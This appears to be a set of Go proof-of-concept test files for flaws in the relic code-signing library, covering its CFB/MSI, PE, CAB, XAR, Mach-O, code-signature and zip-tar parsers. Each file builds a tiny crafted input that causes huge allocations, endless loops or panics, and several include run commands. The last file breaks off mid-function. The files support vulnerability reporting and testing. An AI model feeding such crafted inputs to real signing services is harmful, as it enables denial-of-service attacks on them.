	// wrapped in the "unnecessary SET"
	ser := append([]byte{0x31, byte(len(attr))}, attr...)
	sig := &PESignature{Indirect: new(SpcIndirectDataContentPe)}
	sig.Indirect.Data.Value.File.Moniker = SpcSerializedObject{ClassID: SpcUUIDPageHashes, SerializedData: ser}
	defer func() {
		if r := recover(); r != nil {
			t.Errorf("PANIC: %v", r)
		}
	}()
	t.Logf("err=%v", readPageHashes(sig))
}
