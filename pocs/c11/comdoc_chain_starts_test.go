package comdoc

import (
	"encoding/binary"
	"io"
	"os"
	"testing"
)

func readAll(t *testing.T, blob []byte) (err error) {
	tmp := t.TempDir() + "/x.msi"
	os.WriteFile(tmp, blob, 0644)
	defer func() {
		if r := recover(); r != nil {
			t.Errorf("PANIC: %v", r)
		}
	}()
	cdf, err := ReadPath(tmp)
	if err != nil {
		return err
	}
	defer cdf.Close()
	files, err := cdf.ListDir(nil)
	if err != nil {
		return err
	}
	for _, f := range files {
		if f.Type != DirStream {
			continue
		}
		r, err := cdf.ReadStream(f)
		if err != nil {
			return err
		}
		if _, err := io.Copy(io.Discard, r); err != nil {
			return err
		}
	}
	return nil
}

func dirEntries(t *testing.T, blob []byte) (root int) {
	return rootEntryOffset(t, blob)
}

// a stream whose first sector lies beyond the table
func TestPocStreamStartBeyondTable(t *testing.T) {
	blob, _ := os.ReadFile("../../functest/packages/dummy.msi")
	root := dirEntries(t, blob)
	for i := 1; i < 16; i++ {
		ent := blob[root+128*i : root+128*(i+1)]
		if ent[66] == byte(DirStream) && binary.LittleEndian.Uint32(ent[120:]) > 0 {
			binary.LittleEndian.PutUint32(ent[116:], 0x00ffff00)
			break
		}
	}
	t.Logf("err=%v", readAll(t, blob))
}

// the short-sector stream is shorter than the short sectors in use: cut the root's chain after one sector
func TestPocShortStreamTooShort(t *testing.T) {
	blob, _ := os.ReadFile("../../functest/packages/dummy.msi")
	root := dirEntries(t, blob)
	first := int(int32(binary.LittleEndian.Uint32(blob[root+116:])))
	if first < 0 {
		t.Skip("no short stream")
	}
	// locate the SAT: first MSAT entry in the header
	sat0 := int(int32(binary.LittleEndian.Uint32(blob[76:])))
	sectorSize := 1 << binary.LittleEndian.Uint16(blob[30:])
	satOff := 512 + sat0*sectorSize
	binary.LittleEndian.PutUint32(blob[satOff+4*first:], 0xfffffffe) // end of chain right after the first sector
	t.Logf("err=%v", readAll(t, blob))
}

// a table entry that points beyond the table
func TestPocLinkBeyondTable(t *testing.T) {
	blob, _ := os.ReadFile("../../functest/packages/dummy.msi")
	sat0 := int(int32(binary.LittleEndian.Uint32(blob[76:])))
	sectorSize := 1 << binary.LittleEndian.Uint16(blob[30:])
	satOff := 512 + sat0*sectorSize
	dir0 := int(int32(binary.LittleEndian.Uint32(blob[48:])))
	binary.LittleEndian.PutUint32(blob[satOff+4*dir0:], 0x00ffff00)
	// make the file long enough that the bogus sector can be read
	t.Logf("err=%v", readAll(t, blob))
}
