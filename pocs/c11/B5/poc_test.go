package machos

// PoC B5: sizes derived from LC_CODE_SIGNATURE / the __LINKEDIT segment are
// used unbounded in (*machoMarkers).PatchSignature and machos.Sign:
//   header.go:184  sigBuf = make([]byte, f.sigLen)
//   header.go:195  padded := make([]byte, padding+sigSize)
//   sign.go:42     bytes.NewReader(make([]byte, padding))
// (sign.go:25 also derives estimatedSize from markers.codeSize, which is the
// 64-bit __LINKEDIT offset+filesz.)
//
// Copy into lib/fruit/machos/ and run:
//   go test -vet=off -count=1 -timeout 60s -run 'TestPocB5' ./lib/fruit/machos/

import (
	"bytes"
	"context"
	"crypto"
	"encoding/binary"
	"fmt"
	"runtime"
	"runtime/debug"
	"testing"

	"github.com/sassoftware/relic/v8/lib/fruit/csblob"
)

type b5seg32 struct {
	Cmd, Len                       uint32
	Name                           [16]byte
	Addr, Memsz, Offset, Filesz    uint32
	Maxprot, Prot, Nsect, SegFlags uint32
}

type b5seg64 struct {
	Cmd, Len                       uint32
	Name                           [16]byte
	Addr, Memsz, Offset, Filesz    uint64
	Maxprot, Prot, Nsect, SegFlags uint32
}

type b5sigcmd struct {
	Cmd, Len, SigOffset, SigLength uint32
}

// b5Macho assembles header + load commands, little-endian.
func b5Macho(is64 bool, cmds ...interface{}) []byte {
	var body bytes.Buffer
	for _, c := range cmds {
		_ = binary.Write(&body, binary.LittleEndian, c)
	}
	magic := uint32(0xfeedface)
	if is64 {
		magic = 0xfeedfacf
	}
	hdr := []uint32{magic, 7, 3, 2, uint32(len(cmds)), uint32(body.Len()), 0}
	if is64 {
		hdr = append(hdr, 0) // reserved
	}
	var b bytes.Buffer
	_ = binary.Write(&b, binary.LittleEndian, hdr)
	b.Write(body.Bytes())
	return b.Bytes()
}

func b5LinkEdit32(offset, filesz uint32) b5seg32 {
	s := b5seg32{Cmd: 1, Len: 56, Offset: offset, Filesz: filesz, Memsz: filesz}
	copy(s.Name[:], "__LINKEDIT")
	return s
}

func b5Alloc(t *testing.T, inputLen int, what string, fn func() error) {
	t.Helper()
	const limit = 256 << 20
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	var err error
	func() {
		defer func() {
			if r := recover(); r != nil {
				err = fmt.Errorf("PANIC: %v", r)
			}
		}()
		err = fn()
	}()
	runtime.ReadMemStats(&after)
	debug.FreeOSMemory()
	delta := after.TotalAlloc - before.TotalAlloc
	t.Logf("input %d bytes, %s err=%v, TotalAlloc delta=%d bytes (%d MiB)", inputLen, what, err, delta, delta>>20)
	if delta > limit {
		t.Fatalf("%s allocated %d MiB for a %d-byte input", what, delta>>20, inputLen)
	}
}

// (a) header.go:184 -- "existing block is big enough, overwrite it".
// LC_CODE_SIGNATURE says the old signature is 320 MiB at offset 0x1000 and
// __LINKEDIT is declared to end at the same place, which is all scanFile
// checks. Reached through the exported machos.Sign with a nil certificate (the
// call fails later, in csblob.Sign, with "parsing old signature", before the
// certificate is used).
func TestPocB5_SigLen(t *testing.T) {
	const sigLen = 320 << 20
	input := b5Macho(false,
		b5LinkEdit32(0x1000, sigLen),
		b5sigcmd{Cmd: 0x1d, Len: 16, SigOffset: 0x1000, SigLength: sigLen},
	)
	b5Alloc(t, len(input), "machos.Sign", func() error {
		_, _, err := Sign(context.Background(), bytes.NewReader(input), nil, &csblob.SignatureParams{HashFunc: crypto.SHA256})
		return err
	})
}

// (b) header.go:194-195 -- padding = sigStart - codeSize.
// LC_CODE_SIGNATURE with SigLength 0 but SigOffset 320 MiB, and no __LINKEDIT
// segment at all (codeSize = 0): padding = 320 MiB. Called in-package
// (scanFile + PatchSignature, exactly as Sign does) because Sign would go on to
// allocate the same amount a second time (sign.go:42), hash it, and then
// dereference the nil test certificate.
func TestPocB5_Padding(t *testing.T) {
	input := b5Macho(false,
		b5sigcmd{Cmd: 0x1d, Len: 16, SigOffset: 320 << 20, SigLength: 0},
	)
	b5Alloc(t, len(input), "scanFile+PatchSignature", func() error {
		m, err := scanFile(bytes.NewReader(input))
		if err != nil {
			return err
		}
		_, sigBuf, sigStart, _, padding, err := m.PatchSignature(append([]byte(nil), input...), 16384)
		t.Logf("PatchSignature: len(sigBuf)=%d sigStart=%d padding=%d", len(sigBuf), sigStart, padding)
		return err
	})
}

// (c) sign.go:25 + header.go:195 -- panic.
// 64-bit image, unsigned, whose __LINKEDIT segment claims fileoff+filesize =
// 2^56. codeSize = 2^56, so Sign's estimate is 2^56*52/4096 + 16384 bytes and
// make([]byte, padding+sigSize) panics.
func TestPocB5_EstimatePanic(t *testing.T) {
	seg := b5seg64{Cmd: 0x19, Len: 72, Offset: 1 << 56, Filesz: 0}
	copy(seg.Name[:], "__LINKEDIT")
	input := b5Macho(true, seg)
	defer func() {
		if r := recover(); r != nil {
			t.Fatalf("machos.Sign panicked on a %d-byte input: %v", len(input), r)
		}
	}()
	_, _, err := Sign(context.Background(), bytes.NewReader(input), nil, &csblob.SignatureParams{HashFunc: crypto.SHA256})
	t.Logf("Sign returned err=%v (no panic)", err)
}
