package comdoc_test

// PoC B3: (*ComDoc).readMSAT (lib/comdoc/msat.go:32-42) follows the MSAT
// continuation chain (Header.MSATNextSector, then the last SecID of each MSAT
// sector) with `for nextSector >= 0 { ... append ... }`. Nothing compares the
// number of steps to Header.MSATSectorCount or to the file size, so an MSAT
// sector whose last entry points at itself loops forever, appending
// SectorSize/4-1 entries to r.MSAT and one to r.msatList on every turn.
//
// Copy into lib/comdoc/ and run:
//   go test -vet=off -count=1 -timeout 20s -run 'TestPocB3' ./lib/comdoc/

import (
	"bytes"
	"encoding/binary"
	"errors"
	"sync/atomic"
	"testing"
	"time"

	"github.com/sassoftware/relic/v8/lib/comdoc"
)

// b3Reader: see b2Reader in the B2 PoC; same idea (count, throttle, closable).
type b3Reader struct {
	r      *bytes.Reader
	reads  atomic.Int64
	closed atomic.Bool
}

func (b *b3Reader) ReadAt(p []byte, off int64) (int, error) {
	if b.closed.Load() {
		return 0, errors.New("input closed by test")
	}
	if n := b.reads.Add(1); n > 10000 {
		// safety throttle only: keeps memory growth to ~0.5 MiB/s
		time.Sleep(time.Millisecond)
	}
	return b.r.ReadAt(p, off)
}

func b3Image() []byte {
	hdr := comdoc.Header{
		Revision:         0x3e,
		Version:          3,
		ByteOrder:        0xfffe,
		SectorSize:       9, // 512-byte sectors
		ShortSectorSize:  6,
		SATSectors:       0,
		DirNextSector:    comdoc.SecIDEndOfChain,
		MinStdStreamSize: 4096,
		SSATNextSector:   comdoc.SecIDEndOfChain,
		MSATNextSector:   0, // first MSAT continuation sector is sector 0
		MSATSectorCount:  1, // (never consulted by the reader)
	}
	copy(hdr.Magic[:], []byte{0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1})
	for i := range hdr.MSAT {
		hdr.MSAT[i] = comdoc.SecIDFree
	}
	var b bytes.Buffer
	_ = binary.Write(&b, binary.LittleEndian, hdr)
	// sector 0: an MSAT continuation sector: 127 free slots, then the pointer
	// to the next MSAT sector -- itself.
	msat := make([]comdoc.SecID, 128)
	for i := range msat {
		msat[i] = comdoc.SecIDFree
	}
	msat[127] = 0
	_ = binary.Write(&b, binary.LittleEndian, msat)
	return b.Bytes()
}

func TestPocB3_MSATChainCycle(t *testing.T) {
	img := b3Image()
	if len(img) != 2*512 {
		t.Fatalf("unexpected image size %d", len(img))
	}
	rd := &b3Reader{r: bytes.NewReader(img)}
	done := make(chan error, 1)
	go func() {
		_, err := comdoc.ReadFile(rd)
		done <- err
	}()
	select {
	case err := <-done:
		t.Logf("ReadFile returned: %v (no hang)", err)
	case <-time.After(3 * time.Second):
		reads := rd.reads.Load()
		rd.closed.Store(true) // let the runaway goroutine exit
		err := <-done
		t.Fatalf("comdoc.ReadFile still running after 3s on a %d-byte (2-sector) input: %d sector reads so far, "+
			"~%d MSAT entries accumulated; only stopped because the test closed the input (err=%v)",
			len(img), reads, (reads-1)*127, err)
	}
}
