package authenticode_test

// PoC A2: authenticode.VerifyPE allocates the certificate-table Size from the
// PE data directory without comparing it with the file size.
//
// Copy into lib/authenticode/ and run:
//   go test -vet=off -count=1 -timeout 60s -run TestPocA2 ./lib/authenticode/

import (
	"bytes"
	"debug/pe"
	"encoding/binary"
	"runtime"
	"runtime/debug"
	"testing"

	"github.com/sassoftware/relic/v8/lib/authenticode"
)

// pocA2BuildPE builds DOS header + PE signature + COFF header + PE32 optional
// header + section table, nothing else.
func pocA2BuildPE(fileAlign, certVA, certSize uint32, sections []pe.SectionHeader32) []byte {
	var b bytes.Buffer
	dos := make([]byte, 64)
	dos[0], dos[1] = 'M', 'Z'
	binary.LittleEndian.PutUint32(dos[0x3c:], 64) // e_lfanew
	b.Write(dos)
	b.WriteString("PE\x00\x00")
	fh := pe.FileHeader{
		Machine:              pe.IMAGE_FILE_MACHINE_I386,
		NumberOfSections:     uint16(len(sections)),
		SizeOfOptionalHeader: 224,
		Characteristics:      0x0102,
	}
	_ = binary.Write(&b, binary.LittleEndian, fh)
	secTblEnd := uint32(64 + 24 + 224 + 40*len(sections))
	opt := pe.OptionalHeader32{
		Magic:               0x10b,
		SectionAlignment:    0x1000,
		FileAlignment:       fileAlign,
		SizeOfHeaders:       secTblEnd,
		NumberOfRvaAndSizes: 16,
	}
	opt.DataDirectory[4] = pe.DataDirectory{VirtualAddress: certVA, Size: certSize}
	_ = binary.Write(&b, binary.LittleEndian, opt)
	_ = binary.Write(&b, binary.LittleEndian, sections)
	return b.Bytes()
}

func TestPocA2CertSize(t *testing.T) {
	// 312-byte image: headers only, certificate table "at" offset 312 with
	// Size = 0x20000000 (512 MiB)
	img := pocA2BuildPE(0x200, 312, 0x20000000, nil)
	defer debug.FreeOSMemory()
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	_, err := authenticode.VerifyPE(bytes.NewReader(img), true)
	runtime.ReadMemStats(&after)
	delta := after.TotalAlloc - before.TotalAlloc
	t.Logf("input %d bytes, TotalAlloc delta %d MiB, VerifyPE err=%v", len(img), delta>>20, err)
	if delta > 256<<20 {
		t.Fatalf("VerifyPE allocated %d MiB for a %d-byte input", delta>>20, len(img))
	}
}
