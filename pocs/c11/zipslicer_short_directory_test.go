package zipslicer

import (
	"archive/tar"
	"bytes"
	"encoding/binary"
	"testing"
)

func tarOf(cd, body []byte) []byte {
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	tw.WriteHeader(&tar.Header{Name: TarMemberCD, Size: int64(len(cd)), Mode: 0644})
	tw.Write(cd)
	tw.WriteHeader(&tar.Header{Name: TarMemberZip, Size: int64(len(body)), Mode: 0644})
	tw.Write(body)
	tw.Close()
	return buf.Bytes()
}

func try(t *testing.T, name string, cd []byte) {
	defer func() {
		if r := recover(); r != nil {
			t.Errorf("%s: PANIC: %v", name, r)
		}
	}()
	_, err := ReadZipTar(bytes.NewReader(tarOf(cd, []byte("xxxxxxxx"))))
	t.Logf("%s: err=%v", name, err)
}

// upload tarballs whose central directory copy is cut short
func TestPocShortDirectory(t *testing.T) {
	try(t, "empty", nil)
	try(t, "3 bytes", []byte{1, 2, 3})
	hdr := make([]byte, 20)
	binary.LittleEndian.PutUint32(hdr, directoryHeaderSignature)
	try(t, "cut header", hdr)
	full := make([]byte, directoryHeaderLen)
	binary.LittleEndian.PutUint32(full, directoryHeaderSignature)
	binary.LittleEndian.PutUint16(full[28:], 0xffff) // file name length
	try(t, "name longer than directory", full)
	full2 := make([]byte, directoryHeaderLen)
	binary.LittleEndian.PutUint32(full2, directoryHeaderSignature)
	try(t, "no end record", full2)
}
