package comdoc_test

// PoC B2: (*ComDoc).readDir (lib/comdoc/dirent.go:35) walks the directory
// stream with
//     for sector := r.Header.DirNextSector; sector >= 0; sector = r.SAT[sector]
// and appends SectorSize/128 DirEnt values per step. A SAT whose entry for the
// directory sector points back to itself never terminates, and `files` grows
// without bound.
//
// Copy into lib/comdoc/ and run:
//   go test -vet=off -count=1 -timeout 20s -run 'TestPocB2' ./lib/comdoc/

import (
	"bytes"
	"encoding/binary"
	"errors"
	"sync/atomic"
	"testing"
	"time"

	"github.com/sassoftware/relic/v8/lib/comdoc"
)

// b2Reader wraps the crafted image. It counts ReadAt calls, slows the walk
// down once it is obviously runaway (so the unbounded `files` slice stays small
// while we wait for the timeout), and can be "closed" so the runaway goroutine
// terminates with an error once the test has made its point.
type b2Reader struct {
	r      *bytes.Reader
	reads  atomic.Int64
	closed atomic.Bool
}

func (b *b2Reader) ReadAt(p []byte, off int64) (int, error) {
	if b.closed.Load() {
		return 0, errors.New("input closed by test")
	}
	if n := b.reads.Add(1); n > 10000 {
		// safety throttle only: keeps memory growth to ~0.6 MiB/s
		time.Sleep(time.Millisecond)
	}
	return b.r.ReadAt(p, off)
}

// b2Image builds the 3-sector image; dirNext is the SAT entry of the directory
// sector (1 = points to itself, SecIDEndOfChain = well-formed control).
func b2Image(dirNext comdoc.SecID) []byte {
	hdr := comdoc.Header{
		Revision:         0x3e,
		Version:          3,
		ByteOrder:        0xfffe,
		SectorSize:       9, // 512-byte sectors
		ShortSectorSize:  6,
		SATSectors:       1,
		DirNextSector:    1, // directory stream starts in sector 1
		MinStdStreamSize: 4096,
		SSATNextSector:   comdoc.SecIDEndOfChain,
		MSATNextSector:   comdoc.SecIDEndOfChain,
	}
	copy(hdr.Magic[:], []byte{0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1})
	for i := range hdr.MSAT {
		hdr.MSAT[i] = comdoc.SecIDFree
	}
	hdr.MSAT[0] = 0 // sector 0 holds the SAT
	var b bytes.Buffer
	_ = binary.Write(&b, binary.LittleEndian, hdr)
	// sector 0: the SAT
	sat := make([]comdoc.SecID, 128)
	for i := range sat {
		sat[i] = comdoc.SecIDFree
	}
	sat[0] = comdoc.SecIDSAT
	sat[1] = dirNext // 1: directory sector's "next" is itself, a one-element cycle
	_ = binary.Write(&b, binary.LittleEndian, sat)
	// sector 1: four directory entries, the first being a root storage
	dir := make([]comdoc.RawDirEnt, 4)
	dir[0].Type = comdoc.DirRoot
	dir[0].NameLength = 2
	dir[0].LeftChild, dir[0].RightChild, dir[0].StorageRoot = -1, -1, 1
	dir[0].NextSector = comdoc.SecIDEndOfChain
	dir[1].Type = comdoc.DirStream
	dir[1].NameLength = 4
	dir[1].NameRunes[0] = 'a'
	dir[1].LeftChild, dir[1].RightChild, dir[1].StorageRoot = -1, -1, -1
	dir[1].NextSector = comdoc.SecIDEndOfChain
	_ = binary.Write(&b, binary.LittleEndian, dir)
	return b.Bytes()
}

// Control: the same image with a properly terminated directory chain parses.
func TestPocB2_Control(t *testing.T) {
	cdf, err := comdoc.ReadFile(bytes.NewReader(b2Image(comdoc.SecIDEndOfChain)))
	if err != nil {
		t.Fatalf("control image rejected: %v", err)
	}
	if len(cdf.Files) != 4 {
		t.Fatalf("control image: expected 4 directory entries, got %d", len(cdf.Files))
	}
}

func TestPocB2_DirChainCycle(t *testing.T) {
	img := b2Image(1)
	if len(img) != 3*512 {
		t.Fatalf("unexpected image size %d", len(img))
	}
	rd := &b2Reader{r: bytes.NewReader(img)}
	done := make(chan error, 1)
	go func() {
		_, err := comdoc.ReadFile(rd)
		done <- err
	}()
	select {
	case err := <-done:
		t.Logf("ReadFile returned: %v (no hang)", err)
	case <-time.After(3 * time.Second):
		reads := rd.reads.Load()
		rd.closed.Store(true) // let the runaway goroutine exit
		err := <-done
		t.Fatalf("comdoc.ReadFile still running after 3s on a %d-byte (3-sector) input: %d sector reads so far, "+
			"~%d directory entries accumulated; only stopped because the test closed the input (err=%v)",
			len(img), reads, (reads-2)*4, err)
	}
}
