package cabfile_test

// PoC A6: cabfile.Digest allocates Header.OffsetFiles (+24) bytes of capacity
// for the patched header, and SignatureHeader.SignatureSize bytes for the old
// signature, without comparing either with the data that is present.
//
// Copy into lib/cabfile/ and run:
//   go test -vet=off -count=1 -timeout 60s -run TestPocA6 ./lib/cabfile/

import (
	"bytes"
	"crypto"
	_ "crypto/sha256"
	"encoding/binary"
	"runtime"
	"runtime/debug"
	"testing"

	"github.com/sassoftware/relic/v8/lib/cabfile"
)

func pocA6Measure(blob []byte) (uint64, error) {
	defer debug.FreeOSMemory()
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	_, err := cabfile.Digest(bytes.NewReader(blob), crypto.SHA256)
	runtime.ReadMemStats(&after)
	return after.TotalAlloc - before.TotalAlloc, err
}

// 36-byte cabinet: just the header, no reserve area, no folders, no files;
// OffsetFiles == TotalSize == 0x20000000. Digest() even returns success.
func TestPocA6OffsetFiles(t *testing.T) {
	var b bytes.Buffer
	_ = binary.Write(&b, binary.LittleEndian, cabfile.Header{
		Magic:       cabfile.Magic,
		TotalSize:   0x20000000,
		OffsetFiles: 0x20000000,
		Version:     0x0103,
	})
	blob := b.Bytes()
	delta, err := pocA6Measure(blob)
	t.Logf("input %d bytes, TotalAlloc delta %d MiB, Digest err=%v", len(blob), delta>>20, err)
	if delta > 256<<20 {
		t.Fatalf("cabfile.Digest allocated %d MiB for a %d-byte input", delta>>20, len(blob))
	}
}

// 60-byte cabinet: header + reserve header + signature header whose
// SignatureSize is 0x20000000; no signature bytes follow.
func TestPocA6SignatureSize(t *testing.T) {
	var b bytes.Buffer
	_ = binary.Write(&b, binary.LittleEndian, cabfile.Header{
		Magic:       cabfile.Magic,
		TotalSize:   60,
		OffsetFiles: 60,
		Version:     0x0103,
		Flags:       cabfile.FlagReservePresent,
	})
	_ = binary.Write(&b, binary.LittleEndian, cabfile.ReserveHeader{HeaderSize: 20})
	_ = binary.Write(&b, binary.LittleEndian, cabfile.SignatureHeader{
		Unknown1:      0x100000,
		CabinetSize:   60,
		SignatureSize: 0x20000000,
	})
	blob := b.Bytes()
	delta, err := pocA6Measure(blob)
	t.Logf("input %d bytes, TotalAlloc delta %d MiB, Digest err=%v", len(blob), delta>>20, err)
	if delta > 256<<20 {
		t.Fatalf("cabfile.Digest allocated %d MiB for a %d-byte input", delta>>20, len(blob))
	}
}
