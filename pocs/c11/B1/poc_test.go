package comdoc_test

// PoC B1: (*ComDoc).readSAT (lib/comdoc/sectors.go:131) and readShortSAT
// (lib/comdoc/shortsector.go:34) size a []SecID straight from the 32-bit
// SATSectors / SSATSectorCount fields of the 512-byte CFB header.
//
// Copy into lib/comdoc/ and run:
//   go test -vet=off -count=1 -timeout 60s -run 'TestPocB1' ./lib/comdoc/

import (
	"bytes"
	"encoding/binary"
	"runtime"
	"runtime/debug"
	"testing"

	"github.com/sassoftware/relic/v8/lib/comdoc"
)

// b1Header returns a syntactically valid 512-byte CFB header with 512-byte
// sectors, no MSAT/SAT/SSAT/directory sectors at all (every chain is
// end-of-chain / every MSAT slot is free).
func b1Header(satSectors, ssatSectors uint32) []byte {
	hdr := comdoc.Header{
		Revision:         0x3e,
		Version:          3,
		ByteOrder:        0xfffe,
		SectorSize:       9, // 512 bytes -> 128 SecIDs per SAT sector
		ShortSectorSize:  6,
		SATSectors:       satSectors,
		DirNextSector:    comdoc.SecIDEndOfChain,
		MinStdStreamSize: 4096,
		SSATNextSector:   comdoc.SecIDEndOfChain,
		SSATSectorCount:  ssatSectors,
		MSATNextSector:   comdoc.SecIDEndOfChain,
	}
	copy(hdr.Magic[:], []byte{0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1})
	for i := range hdr.MSAT {
		hdr.MSAT[i] = comdoc.SecIDFree
	}
	var b bytes.Buffer
	if err := binary.Write(&b, binary.LittleEndian, hdr); err != nil {
		panic(err)
	}
	if b.Len() != 512 {
		panic("header is not 512 bytes")
	}
	return b.Bytes()
}

func b1Measure(t *testing.T, input []byte) {
	t.Helper()
	const limit = 256 << 20
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	_, err := comdoc.ReadFile(bytes.NewReader(input))
	runtime.ReadMemStats(&after)
	debug.FreeOSMemory()
	delta := after.TotalAlloc - before.TotalAlloc
	t.Logf("input %d bytes, ReadFile err=%v, TotalAlloc delta=%d bytes (%d MiB)", len(input), err, delta, delta>>20)
	if delta > limit {
		t.Fatalf("comdoc.ReadFile allocated %d MiB while parsing a %d-byte input", delta>>20, len(input))
	}
}

// SATSectors = 1<<20  ->  make([]SecID, 128 * 1Mi) = 512 MiB
func TestPocB1_SAT(t *testing.T) {
	b1Measure(t, b1Header(1<<20, 0))
}

// SSATSectorCount = 1<<20  ->  make([]SecID, 128 * 1Mi) = 512 MiB
func TestPocB1_ShortSAT(t *testing.T) {
	b1Measure(t, b1Header(0, 1<<20))
}
