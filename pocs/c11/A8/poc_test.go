package xar_test

// PoC A8: xar.Open allocates <signature><size> / <x-signature><size> bytes
// taken from the XML table of contents without comparing them with the
// archive size (or with zero).
//
// Copy into lib/fruit/xar/ and run:
//   go test -vet=off -count=1 -timeout 60s -run TestPocA8 ./lib/fruit/xar/

import (
	"bytes"
	"compress/zlib"
	"crypto/sha1"
	"encoding/binary"
	"fmt"
	"runtime"
	"runtime/debug"
	"testing"

	"github.com/sassoftware/relic/v8/lib/fruit/xar"
)

// 28-byte header + zlib(TOC) + 20-byte SHA-1 of the compressed TOC
func pocA8Build(tocBody string) []byte {
	toc := `<?xml version="1.0" encoding="UTF-8"?><xar><toc>` +
		`<checksum style="sha1"><offset>0</offset><size>20</size></checksum>` +
		tocBody + `</toc></xar>`
	var z bytes.Buffer
	zw := zlib.NewWriter(&z)
	_, _ = zw.Write([]byte(toc))
	_ = zw.Close()
	var b bytes.Buffer
	_ = binary.Write(&b, binary.BigEndian, uint32(0x78617221)) // xar!
	_ = binary.Write(&b, binary.BigEndian, uint16(28))         // header size
	_ = binary.Write(&b, binary.BigEndian, uint16(1))          // version
	_ = binary.Write(&b, binary.BigEndian, int64(z.Len()))     // compressed TOC size
	_ = binary.Write(&b, binary.BigEndian, int64(len(toc)))    // uncompressed TOC size
	_ = binary.Write(&b, binary.BigEndian, uint32(1))          // sha1
	b.Write(z.Bytes())
	sum := sha1.Sum(z.Bytes())
	b.Write(sum[:]) // heap: TOC checksum at offset 0
	return b.Bytes()
}

func pocA8Open(blob []byte) (delta uint64, err error, panicked interface{}) {
	defer debug.FreeOSMemory()
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	func() {
		defer func() { panicked = recover() }()
		_, err = xar.Open(bytes.NewReader(blob), int64(len(blob)))
	}()
	runtime.ReadMemStats(&after)
	return after.TotalAlloc - before.TotalAlloc, err, panicked
}

func TestPocA8SignatureSize(t *testing.T) {
	blob := pocA8Build(fmt.Sprintf(
		`<signature style="RSA"><offset>20</offset><size>%d</size></signature>`, 512<<20))
	delta, err, p := pocA8Open(blob)
	t.Logf("input %d bytes, TotalAlloc delta %d MiB, err=%v, panic=%v", len(blob), delta>>20, err, p)
	if delta > 256<<20 {
		t.Fatalf("xar.Open allocated %d MiB for a %d-byte input", delta>>20, len(blob))
	}
}

func TestPocA8XSignatureSize(t *testing.T) {
	blob := pocA8Build(fmt.Sprintf(
		`<x-signature style="CMS"><offset>20</offset><size>%d</size></x-signature>`, 512<<20))
	delta, err, p := pocA8Open(blob)
	t.Logf("input %d bytes, TotalAlloc delta %d MiB, err=%v, panic=%v", len(blob), delta>>20, err, p)
	if delta > 256<<20 {
		t.Fatalf("xar.Open allocated %d MiB for a %d-byte input", delta>>20, len(blob))
	}
}

func TestPocA8NegativeSize(t *testing.T) {
	blob := pocA8Build(`<x-signature style="CMS"><offset>20</offset><size>-1</size></x-signature>`)
	_, err, p := pocA8Open(blob)
	if p != nil {
		t.Fatalf("xar.Open panicked on a %d-byte input: %v", len(blob), p)
	}
	t.Logf("no panic, err=%v", err)
}
