package csblob

// PoC B7: (*SigBlob).VerifyPages (lib/fruit/csblob/verify.go:158-159) does
//     pageSize := int64(1 << dir.Header.PageSizeLog2)
//     page := make([]byte, pageSize)
// where PageSizeLog2 is an unchecked byte of the code directory header. The
// buffer is allocated before anything is read, so it is not limited by the
// real size of the image (line 164-165 only re-slices it afterwards).
//
// Copy into lib/fruit/csblob/ and run:
//   go test -vet=off -count=1 -timeout 60s -run 'TestPocB7' ./lib/fruit/csblob/

import (
	"bytes"
	"crypto"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/sha256"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/binary"
	"fmt"
	"math/big"
	"runtime"
	"runtime/debug"
	"testing"
	"time"

	"github.com/sassoftware/relic/v8/lib/pkcs7"
)

// the "program" being verified: one 4 KiB page
var b7Code = bytes.Repeat([]byte{0x90}, 4096)

// b7CodeDir returns a code directory with one SHA-256 code slot that correctly
// hashes b7Code, CodeLimit 4096, and the given PageSizeLog2.
func b7CodeDir(pageSizeLog2 uint8) []byte {
	hdr := CodeDirectoryHeader{
		Magic:         csCodeDirectory,
		Version:       0x20400,
		CodeSlotCount: 1,
		CodeLimit:     uint32(len(b7Code)),
		HashSize:      32,
		HashType:      HashSHA256,
		PageSizeLog2:  pageSizeLog2,
	}
	hdrSize := binary.Size(hdr) // 88
	hdr.HashOffset = uint32(hdrSize)
	hdr.Length = uint32(hdrSize + 32)
	var cd bytes.Buffer
	_ = binary.Write(&cd, binary.BigEndian, hdr)
	sum := sha256.Sum256(b7Code)
	cd.Write(sum[:])
	return cd.Bytes()
}

// b7Unsigned wraps the code directory in an embedded-signature superblob with
// no CMS wrapper (140 bytes).
func b7Unsigned(pageSizeLog2 uint8) []byte {
	return marshalSuperBlob(csEmbeddedSignature, []superItem{
		{magic: csCodeDirectory, itype: cdCodeDirectorySlot, data: b7CodeDir(pageSizeLog2)},
	})
}

// b7SelfSigned additionally attaches a CMS signature made with a throw-away
// self-signed key, which is all csblob.Verify asks for (it does not validate
// the chain). This is what an attacker-supplied "signed" Mach-O / DMG carries.
func b7SelfSigned(t *testing.T, pageSizeLog2 uint8) []byte {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(1),
		Subject:      pkix.Name{CommonName: "poc"},
		NotBefore:    time.Now().Add(-time.Hour),
		NotAfter:     time.Now().Add(time.Hour),
		KeyUsage:     x509.KeyUsageDigitalSignature,
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, key.Public(), key)
	if err != nil {
		t.Fatal(err)
	}
	cert, err := x509.ParseCertificate(der)
	if err != nil {
		t.Fatal(err)
	}
	cd := b7CodeDir(pageSizeLog2)
	builder := pkcs7.NewBuilder(key, []*x509.Certificate{cert}, crypto.SHA256)
	if err := builder.SetContentData(cd); err != nil {
		t.Fatal(err)
	}
	psd, err := builder.Sign()
	if err != nil {
		t.Fatal(err)
	}
	if _, err := psd.Detach(); err != nil {
		t.Fatal(err)
	}
